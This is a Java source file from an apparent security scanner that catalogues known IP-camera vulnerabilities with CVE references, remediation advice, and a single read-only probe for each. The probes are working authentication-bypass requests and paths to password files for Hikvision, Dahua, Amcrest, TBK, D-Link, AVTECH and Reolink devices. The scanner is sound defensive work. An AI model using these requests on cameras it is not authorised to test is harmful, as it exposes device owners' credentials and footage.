package dev.tenken.camera;

import static dev.tenken.DeviceIdentity.Attribute.FIRMWARE;
import static dev.tenken.DeviceIdentity.Attribute.MODEL;
import static dev.tenken.DeviceIdentity.Attribute.SERIAL;

import dev.tenken.Countermeasure;
import dev.tenken.Reference;
import dev.tenken.Severity;
import java.util.List;

/**
 * The vendor flaw table: one {@link FlawRow} per flaw, each probed by one read-only {@code GET}
 * taken from the public proof of concept (nuclei templates, the vendors' and ICS-CERT advisories)
 * and stopped there: nothing is followed up (never Hikvision's users or configuration after
 * deviceInfo). Markers are the templates' matchers, all required.
 */
final class FlawRows {
  private FlawRows() {}

  private static final String UPDATE =
      "Install the firmware the vendor's advisory names for the model, and keep the device off"
          + " untrusted networks (no port forwarding of its web port).";

  static final FlawRow HIKVISION_CVE_2017_7921 =
      FlawRow.builder(
              "camera.hikvision.cve-2017-7921",
              "Hikvision authentication bypass with the magic auth parameter (CVE-2017-7921)",
              "Hikvision")
          .severity(Severity.CRITICAL)
          .references(
              Reference.cve("CVE-2017-7921"),
              Reference.cwe(287),
              Reference.url("https://www.cisa.gov/news-events/ics-advisories/icsa-17-124-01"))
          .description(
              "Hikvision cameras with firmware 5.2.0 to 5.4.x of early 2017 accept the"
                  + " parameter auth=<base64 of admin:11> instead of a login: anyone can read"
                  + " the device information, the user list with passwords and the"
                  + " configuration, and take over the camera.")
          .remediation(UPDATE + " Hikvision fixed it in 5.4.41/5.4.71 and later.")
          .get("/system/deviceInfo?auth=YWRtaW46MTEK")
          .contentType("xml")
          .markers("<DeviceInfo", "<firmwareVersion>")
          .identity(MODEL, "<model>\\s*([^<]{1,64}?)\\s*</model>")
          .identity(SERIAL, "<serialNumber>\\s*([^<]{1,96}?)\\s*</serialNumber>")
          .identity(FIRMWARE, "<firmwareVersion>\\s*([^<]{1,32}?)\\s*</firmwareVersion>")
          .identity(FIRMWARE, "<firmwareReleasedDate>\\s*([^<]{1,32}?)\\s*</firmwareReleasedDate>")
          .build();

  static final FlawRow HIKVISION_USER_XML =
      FlawRow.builder(
              "camera.hikvision.user-xml-exposed",
              "Hikvision user list with passwords readable without login",
              "Hikvision")
          .severity(Severity.HIGH)
          .countermeasure(Countermeasure.AUTHENTICATION)
          .references(
              Reference.cwe(522),
              Reference.url(
                  "https://github.com/projectdiscovery/nuclei-templates/blob/main/http/exposures/configs/hikvision-info-leak.yaml"))
          .description(
              "The device serves /config/user.xml, its user list with passwords, to anyone.")
          .remediation(UPDATE + " Then change every password the file held.")
          .get("/config/user.xml")
          .contentType("xml")
          .markers("<user name=", "password=")
          .secret("password", "password=\"[^\"]{0,256}\"")
          .build();

  static final FlawRow DAHUA_CVE_2017_7925 =
      FlawRow.builder(
              "camera.dahua.cve-2017-7925",
              "Dahua password file readable without login (CVE-2017-7925)",
              "Dahua")
          .severity(Severity.CRITICAL)
          .references(
              Reference.cve("CVE-2017-7925"),
              Reference.cwe(260),
              Reference.url("https://www.cisa.gov/news-events/ics-advisories/icsa-17-124-02"))
          .description(
              "Dahua devices with old firmware serve /current_config/passwd, the account file"
                  + " with every user's password hash, to anyone; the hash alone logs in.")
          .remediation(UPDATE + " Then change every password.")
          .get("/current_config/passwd")
          .markers("id:name:passwd", "ugm")
          .secret("password hash", "^\\d{1,4}:[^:\\r\\n]{1,64}:([^:\\r\\n]{1,256}):")
          .build();

  static final FlawRow AMCREST_CVE_2017_8229 =
      FlawRow.builder(
              "camera.amcrest.cve-2017-8229",
              "Amcrest account file readable without login (CVE-2017-8229)",
              "Amcrest")
          .alsoSoldAs("dahua")
          .severity(Severity.CRITICAL)
          .references(
              Reference.cve("CVE-2017-8229"),
              Reference.cwe(200),
              Reference.url("https://nvd.nist.gov/vuln/detail/CVE-2017-8229"))
          .description(
              "Amcrest (Dahua OEM) cameras serve /current_config/Sha1Account1, the account"
                  + " file with the users' password hashes, to anyone.")
          .remediation(UPDATE + " Then change every password.")
          .get("/current_config/Sha1Account1")
          .contentType("octet-stream")
          .markers("DevInformation", "SerialID")
          .secret("password hash", "\"Password\"\\s{0,8}:\\s{0,8}\"[^\"]{0,256}\"")
          .identity(SERIAL, "\"SerialID\"\\s{0,8}:\\s{0,8}\"([^\"]{1,64})\"")
          .build();

  static final FlawRow TBK_CVE_2018_9995 =
      FlawRow.builder(
              "camera.tbk.cve-2018-9995",
              "TBK DVR user list readable with the cookie uid=admin (CVE-2018-9995)",
              "TBK")
          .alsoSoldAs("novo", "cenova", "q-see", "qsee", "pulnix", "night owl", "securus")
          .severity(Severity.CRITICAL)
          .references(
              Reference.cve("CVE-2018-9995"),
              Reference.cwe(287),
              Reference.url("https://nvd.nist.gov/vuln/detail/CVE-2018-9995"))
          .description(
              "TBK DVR4104/DVR4216 and their OEM brands (Novo, CeNova, QSee, Pulnix, Night OWL,"
                  + " Securus...) answer /device.rsp?opt=user&cmd=list with every user and"
                  + " cleartext password when the request carries the cookie uid=admin.")
          .remediation(UPDATE + " Then change every password the list held.")
          .get("/device.rsp?opt=user&cmd=list")
          .loginCookie("uid=admin")
          .markers("\"uid\":", "\"pwd\":", "\"view\":", "playback")
          .secret("pwd", "\"pwd\"\\s{0,8}:\\s{0,8}\"[^\"]{0,256}\"")
          .build();

  static final FlawRow DLINK_CVE_2020_25078 =
      FlawRow.builder(
              "camera.dlink.cve-2020-25078",
              "D-Link camera administrator password readable without login (CVE-2020-25078)",
              "D-Link")
          .alsoSoldAs("dlink")
          .severity(Severity.HIGH)
          .references(
              Reference.cve("CVE-2020-25078"),
              Reference.cwe(200),
              Reference.url(
                  "https://supportannouncement.us.dlink.com/announcement/publication.aspx?name=SAP10180"))
          .description(
              "D-Link DCS cameras answer /config/getuser?index=0 with the administrator's name"
                  + " and cleartext password.")
          .remediation(UPDATE + " Then change the administrator password.")
          .get("/config/getuser?index=0")
          .contentType("text/plain")
          .markers("name=", "pass=")
          .secret("pass", "^pass=.{0,256}$")
          .build();

  static final FlawRow AVTECH_CAPABILITY =
      FlawRow.builder(
              "camera.avtech.capability-exposed",
              "AVTECH device capabilities and firmware readable without login",
              "AVTECH")
          .severity(Severity.LOW)
          .countermeasure(Countermeasure.INVENTORY)
          .references(
              Reference.cwe(200),
              Reference.url(
                  "https://github.com/projectdiscovery/nuclei-templates/blob/main/http/exposed-panels/avtech-dvr-exposure.yaml"))
          .description(
              "AVTECH DVRs and cameras answer /cgi-bin/nobody/Machine.cgi?action=get_capability"
                  + " without login with the product type, firmware version and MAC address:"
                  + " what an attacker needs to pick an exploit.")
          .remediation(
              "Keep the device off untrusted networks and current with AVTECH's firmware; the"
                  + " page itself cannot be turned off.")
          .get("/cgi-bin/nobody/Machine.cgi?action=get_capability")
          .markers("Firmware.Version=", "Product.Type=", "MACAddress=")
          .identity(FIRMWARE, "^Firmware\\.Version=([^\\r\\n]{1,64})$")
          .identity(MODEL, "^Product\\.Type=([^\\r\\n]{1,64})$")
          .build();

  static final FlawRow AVTECH_ACCOUNT_BYPASS =
      FlawRow.builder(
              "camera.avtech.account-config-bypass",
              "AVTECH account configuration readable through the .cab authentication bypass",
              "AVTECH")
          .severity(Severity.CRITICAL)
          .references(
              Reference.cwe(287),
              Reference.url(
                  "https://github.com/projectdiscovery/nuclei-templates/blob/main/http/vulnerabilities/avtech/avtech-auth-bypass.yaml"))
          .description(
              "AVTECH devices skip authentication for a request whose query starts with .cab:"
                  + " /cgi-bin/user/Config.cgi?.cab&action=get&category=Account.* returns every"
                  + " account with its cleartext password.")
          .remediation(UPDATE + " Then change every password.")
          .get("/cgi-bin/user/Config.cgi?.cab&action=get&category=Account.*")
          .contentType("text/plain")
          .markers("Account.Maxuser=", "Password=")
          .secret("password", "^Account\\.[A-Za-z0-9.]{0,64}Password=.{0,256}$")
          .build();

  static final FlawRow REOLINK_CVE_2021_40150 =
      FlawRow.builder(
              "camera.reolink.cve-2021-40150",
              "Reolink web server configuration readable without login (CVE-2021-40150)",
              "Reolink")
          .severity(Severity.HIGH)
          .references(
              Reference.cve("CVE-2021-40150"),
              Reference.cwe(200),
              Reference.url("https://nvd.nist.gov/vuln/detail/CVE-2021-40150"))
          .description(
              "Reolink E1 Zoom cameras up to firmware 3.0.0.716 serve their web server's"
                  + " configuration /conf/nginx.conf to anyone, which names the files (such as"
                  + " the TLS private key, CVE-2021-40149) that can be read the same way.")
          .remediation(UPDATE)
          .get("/conf/nginx.conf")
          .markers("server", "listen", "fastcgi")
          .build();

  /** Every row, in catalogue order. */
  static final List<FlawRow> ALL =
      List.of(
          HIKVISION_CVE_2017_7921,
          HIKVISION_USER_XML,
          DAHUA_CVE_2017_7925,
          AMCREST_CVE_2017_8229,
          TBK_CVE_2018_9995,
          DLINK_CVE_2020_25078,
          AVTECH_CAPABILITY,
          AVTECH_ACCOUNT_BYPASS,
          REOLINK_CVE_2021_40150);
}
